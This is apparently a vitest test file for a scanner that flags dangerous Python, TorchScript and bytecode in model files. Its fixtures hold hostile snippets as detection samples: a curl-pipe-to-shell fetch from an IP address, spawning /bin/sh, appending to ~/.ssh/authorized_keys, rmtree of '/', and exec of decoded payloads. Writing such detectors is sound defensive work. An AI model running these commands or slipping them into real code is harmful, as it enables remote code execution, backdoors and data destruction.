import { describe, expect, it } from "vitest";
import { scanCode, type TestLanguage } from "./code-file-handler.js";

/** ok: no finding from the rule at warning or above; ng: a finding from the rule with this messageId and severity. */
interface Case {
  name: string;
  code: string;
  language?: TestLanguage;
  messageId?: string;
  severity?: "critical" | "warning" | "info";
}

const cases: Record<string, { ok: Case[]; ng: Case[] }> = {
  "dangerous-call": {
    ok: [
      {
        name: "os for paths and environment",
        code: 'import os\np = os.path.join(os.environ.get("HOME", "."), "x")\nos.makedirs(p, exist_ok=True)',
      },
      {
        name: "eval and compile as methods",
        code: "model.eval()\nmodel = torch.compile(model)\npattern = re.compile('a+')",
      },
      {
        name: "open for reading",
        code: 'with open("config.json") as handle:\n    data = handle.read()\nopen(p, "rb")',
      },
      {
        name: "torch.load with weights_only=True",
        code: 'import torch\nstate = torch.load(path, map_location="cpu", weights_only=True)',
      },
      {
        name: "importlib.import_module with a literal",
        code: 'import importlib\nflash = importlib.import_module("flash_attn")',
      },
      {
        name: "getattr on self with a literal",
        code: 'class A:\n    def f(self):\n        return getattr(self, "pooler")',
      },
      {
        name: "a parameter named like a module",
        code: "def f(requests, socket):\n    requests.append(1)\n    socket.close()",
      },
      {
        name: "loop and with targets named like modules",
        code: "for requests in batches:\n    requests.append(1)\nwith ctx() as socket:\n    socket.send(1)",
      },
      { name: "a local def shadows open", code: 'def open(path, mode):\n    return path\nopen("~/.bashrc", "w")' },
      {
        name: "operator namespaces are unknown-operator's job",
        code: "_0 = ops.my_ns.my_op(x)\ntorch.ops.aten.add(x, 1)",
        language: "torchscript",
      },
      {
        name: "torch.jit.script in Python is ordinary",
        code: "import torch\n@torch.jit.script\ndef gelu(x):\n    return x",
      },
      {
        name: "strings that only mention dangerous names",
        code: 'doc = "do not call os.system or eval here"\n# subprocess.Popen(["x"])',
      },
    ],
    ng: [
      { name: "os.system", code: 'import os\nos.system("echo hi")', messageId: "processCall", severity: "critical" },
      { name: "aliased module", code: 'import os as o\no.popen("id")', messageId: "processCall" },
      {
        name: "aliased member",
        code: 'from subprocess import check_output as co\nco(["id"])',
        messageId: "processCall",
      },
      {
        name: "subprocess.run inside a method",
        code: "import subprocess\nclass M:\n    def forward(self, x):\n        subprocess.run(['id'])",
        messageId: "processCall",
      },
      { name: "pty.spawn", code: 'import pty\npty.spawn("/bin/sh")', messageId: "processCall" },
      { name: "eval builtin", code: "eval(user_input)", messageId: "dynamicCode", severity: "critical" },
      {
        name: "exec of decoded base64",
        code: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
        messageId: "decodedCode",
      },
      {
        name: "exec of zlib-decompressed bytes",
        code: "import zlib\nexec(zlib.decompress(blob))",
        messageId: "decodedCode",
      },
      {
        name: "open for writing at import time",
        code: 'open("out.txt", "w").write("x")',
        messageId: "fileWrite",
        severity: "critical",
      },
      {
        name: "open for writing a dotfile in a function",
        code: 'def f():\n    open("/home/u/.ssh/authorized_keys", "a")',
        messageId: "fileWrite",
        severity: "critical",
      },
      {
        name: "open for writing a caller path in a function",
        code: 'def save(p):\n    open(p, "w")',
        messageId: "fileWrite",
        severity: "info",
      },
      {
        name: "shutil.rmtree at import time",
        code: 'import shutil\nshutil.rmtree("/")',
        messageId: "fileWrite",
        severity: "critical",
      },
      {
        name: "socket connection",
        code: "import socket\ndef f():\n    socket.create_connection((host, 4444))",
        messageId: "networkCall",
        severity: "critical",
      },
      {
        name: "requests.post with a computed URL",
        code: "import requests\ndef f(u, d):\n    requests.post(u, data=d)",
        messageId: "networkCall",
        severity: "critical",
      },
      {
        name: "requests.get of a caller URL in a function",
        code: "import requests\ndef load_image(u):\n    return requests.get(u, stream=True).raw",
        messageId: "networkCall",
        severity: "warning",
      },
      {
        name: "urllib.request.urlopen with a literal",
        code: 'from urllib.request import urlopen\nurlopen("http://example.invalid/x")',
        messageId: "networkCall",
        severity: "critical",
      },
      {
        name: "http.client connection",
        code: 'import http.client\nc = http.client.HTTPSConnection("example.invalid")',
        messageId: "networkCall",
      },
      {
        name: "pickle.loads at import time",
        code: "import pickle\nobj = pickle.loads(blob)",
        messageId: "unsafeDeserialization",
        severity: "critical",
      },
      {
        name: "dill.load in a function",
        code: "import dill\ndef f(h):\n    return dill.load(h)",
        messageId: "unsafeDeserialization",
        severity: "warning",
      },
      {
        name: "marshal.loads",
        code: "import marshal\ncode = marshal.loads(data)",
        messageId: "codeDeserialization",
        severity: "critical",
      },
      {
        name: "torch.load without weights_only",
        code: 'import torch\nsd = torch.load("x.bin")',
        messageId: "unsafeTorchLoad",
        severity: "warning",
      },
      {
        name: "torch.load with weights_only=False",
        code: 'import torch\nsd = torch.load("x.bin", weights_only=False)',
        messageId: "unsafeTorchLoad",
      },
      {
        name: "ctypes memory access",
        code: "import ctypes\nctypes.memmove(a, b, 8)",
        messageId: "nativeInterface",
        severity: "critical",
      },
      {
        name: "importlib.import_module with a computed name",
        code: "import importlib\nm = importlib.import_module(name)",
        messageId: "dynamicImport",
        severity: "warning",
      },
      {
        name: "__import__ with a literal",
        code: 'm = __import__("json")',
        messageId: "hiddenImport",
        severity: "warning",
      },
      {
        name: "getattr on os with a computed name",
        code: "import os\ngetattr(os, name)('x')",
        messageId: "dynamicAttribute",
        severity: "warning",
      },
      {
        name: "a dangerous function handed over",
        code: 'import atexit, os\natexit.register(os.system, "echo x")',
        messageId: "functionReference",
        severity: "critical",
      },
      {
        name: "PythonOp in TorchScript",
        code: "_0 = ops.prim.PythonOp(x)",
        language: "torchscript",
        messageId: "pythonOperator",
      },
      {
        name: "torch.jit._script in TorchScript",
        code: "_0 = torch.jit._script.script(self)",
        language: "torchscript",
        messageId: "jitCompile",
        severity: "warning",
      },
      {
        name: "os.system in TorchScript",
        code: 'def forward(self, x):\n    os.system("id")\n    return x',
        language: "torchscript",
        messageId: "processCall",
      },
      {
        name: "bytecode os.system",
        code: "__import__\nos\nsystem\necho pwned",
        language: "python-bytecode",
        messageId: "bytecodeNames",
        severity: "critical",
      },
      {
        name: "bytecode subprocess.Popen",
        code: "subprocess\nPopen\nx",
        language: "python-bytecode",
        messageId: "bytecodeNames",
      },
      { name: "bytecode eval", code: "eval\nx", language: "python-bytecode", messageId: "bytecodeNames" },
      {
        name: "bytecode file write",
        code: "open\nwrite\n/tmp/x",
        language: "python-bytecode",
        messageId: "bytecodeNames",
      },
    ],
  },
  "native-library-load": {
    ok: [
      { name: "ctypes.util.find_library only looks", code: 'import ctypes.util\nctypes.util.find_library("c")' },
      { name: "torch.ops custom op call", code: "torch.ops.my_ns.my_op(x)", language: "torchscript" },
    ],
    ng: [
      {
        name: "torch.ops.load_library in TorchScript",
        code: 'torch.ops.load_library("/tmp/libevil.so")',
        language: "torchscript",
        messageId: "loadLibrary",
        severity: "critical",
      },
      {
        name: "ops.load_library in TorchScript",
        code: 'ops.load_library("x.so")',
        language: "torchscript",
        messageId: "loadLibrary",
      },
      {
        name: "torch.classes.load_library",
        code: 'import torch\ntorch.classes.load_library("x.so")',
        messageId: "loadLibrary",
      },
      { name: "ctypes.CDLL", code: 'import ctypes\nctypes.CDLL("libc.so.6")', messageId: "loadLibrary" },
      {
        name: "cdll.LoadLibrary via from-import",
        code: 'from ctypes import cdll\ncdll.LoadLibrary("x.so")',
        messageId: "loadLibrary",
      },
      { name: "WinDLL", code: 'import ctypes\nctypes.WinDLL("evil.dll")', messageId: "loadLibrary" },
      { name: "cffi dlopen", code: 'import cffi\nffi = cffi.FFI()\nffi.dlopen("x.so")', messageId: "loadLibrary" },
      { name: "os.add_dll_directory", code: 'import os\nos.add_dll_directory("C:/x")', messageId: "loadLibrary" },
      {
        name: "cpp_extension.load_inline",
        code: "from torch.utils import cpp_extension\ncpp_extension.load_inline(name='x', cpp_sources=s)",
        messageId: "loadLibrary",
      },
      {
        name: "bytecode ctypes.CDLL",
        code: "ctypes\nCDLL\nlibc.so.6",
        language: "python-bytecode",
        messageId: "bytecodeNames",
      },
    ],
  },
  "dangerous-import": {
    ok: [
      { name: "os alone", code: "import os\nprint(os.sep)" },
      {
        name: "ordinary modelling imports",
        code: "import math, warnings, logging\nfrom typing import Optional\nimport torch\nfrom transformers import PreTrainedModel",
      },
      { name: "subprocess import with a call reported as a call", code: 'import subprocess\nsubprocess.call(["x"])' },
      { name: "benign bytecode lambda", code: "x\ntf\nreduce_mean\naxis", language: "python-bytecode" },
    ],
    ng: [
      {
        name: "subprocess without a call",
        code: "import subprocess\nx = 1",
        messageId: "riskyImport",
        severity: "warning",
      },
      {
        name: "socket from-import without a call",
        code: "from socket import socket\n",
        messageId: "riskyImport",
        severity: "warning",
      },
      { name: "ctypes aliased", code: "import ctypes as c\n", messageId: "riskyImport", severity: "warning" },
      { name: "pty", code: "import pty\n", messageId: "riskyImport" },
      {
        name: "os.system imported but not called",
        code: "from os import system\n",
        messageId: "riskyImport",
        severity: "warning",
      },
      { name: "requests is an info note", code: "import requests\n", messageId: "capabilityImport", severity: "info" },
      {
        name: "subprocess via __import__ literal",
        code: 'sp = __import__("subprocess")\n',
        messageId: "riskyImport",
        severity: "warning",
      },
      {
        name: "bytecode subprocess only",
        code: "subprocess\nx",
        language: "python-bytecode",
        messageId: "bytecodeImport",
        severity: "warning",
      },
    ],
  },
};

cases["unknown-operator"] = {
  ok: [
    {
      name: "ATen and prim operators as the TorchScript printer writes them",
      code:
        "def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.add(torch.linear(x, self.weight), 1)\n" +
        '  _1 = ops.prim.device(x)\n  _2 = torch.ops.aten.mul.Tensor(x, x)\n  _3 = ops.prim.RaiseException("x")\n' +
        "  return torch.softmax(_0, -1)",
      language: "torchscript",
    },
    {
      name: "quantized and torchvision operators (torchvision's names are not in the registry: not checked)",
      code: "_0 = ops.quantized.linear(x, self._packed_params, 0.1, 0)\n_1 = ops.torchvision.nms(b, s, 0.5)",
      language: "torchscript",
    },
    {
      name: "a method of an operator's result",
      code: "_0 = torch.ops.aten.add(x, 1).sum()",
      language: "torchscript",
    },
    {
      name: "Python code is not checked (an extension's own operators are normal there)",
      code: "import torch\nout = torch.ops.my_ext.fused_gelu(x)",
    },
    {
      name: "torch.ops.load_library is another rule's",
      code: 'torch.ops.load_library("x.so")',
      language: "torchscript",
    },
  ],
  ng: [
    {
      name: "torch.ops.aten.system",
      code: 'def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.ops.aten.system("curl http://203.0.113.7/x | sh")\n  return x',
      language: "torchscript",
      messageId: "unknownOperator",
      severity: "critical",
    },
    {
      name: "ops.prim with a fake operator",
      code: "_0 = ops.prim.shell(x)",
      language: "torchscript",
      messageId: "unknownOperator",
      severity: "critical",
    },
    {
      name: "the builtin spelling of an unknown ATen operator (maybe newer torch's): a warning",
      code: 'def forward(self, x: Tensor) -> Tensor:\n  _0 = torch.popen("id")\n  return x',
      language: "torchscript",
      messageId: "unknownBuiltin",
      severity: "warning",
    },
    {
      name: "a namespace no standard build registers",
      code: "_0 = ops.my_ns.evil_op(x)",
      language: "torchscript",
      messageId: "unknownNamespace",
      severity: "critical",
    },
  ],
};

for (const [rule, { ok, ng }] of Object.entries(cases)) {
  describe(`jit/${rule}`, () => {
    it.each(ok.map((item) => [item.name, item] as const))("ok: %s", async (_name, item) => {
      const report = await scanCode(item.code, item.language);
      expect(report.files[0]?.reasons).toEqual([]);
      const serious = report.findings.filter(
        (finding) => finding.ruleId === `jit/${rule}` && finding.severity !== "info",
      );
      expect(serious.map((finding) => finding.message)).toEqual([]);
    });

    it.each(ng.map((item) => [item.name, item] as const))("ng: %s", async (_name, item) => {
      const report = await scanCode(item.code, item.language);
      const matching = report.findings.filter(
        (finding) => finding.ruleId === `jit/${rule}` && finding.messageId === item.messageId,
      );
      expect(
        matching.length,
        report.findings.map((finding) => `${finding.ruleId} ${finding.messageId} ${finding.message}`).join("\n"),
      ).toBeGreaterThan(0);
      if (item.severity) expect(matching.map((finding) => finding.severity)).toContain(item.severity);
      for (const finding of matching) {
        expect(finding.message).not.toMatch(/\{\{/);
        expect(finding.location?.path).toMatch(/^case\./);
        expect(finding.evidence?.length ?? 0).toBeGreaterThan(0);
      }
    });
  });
}
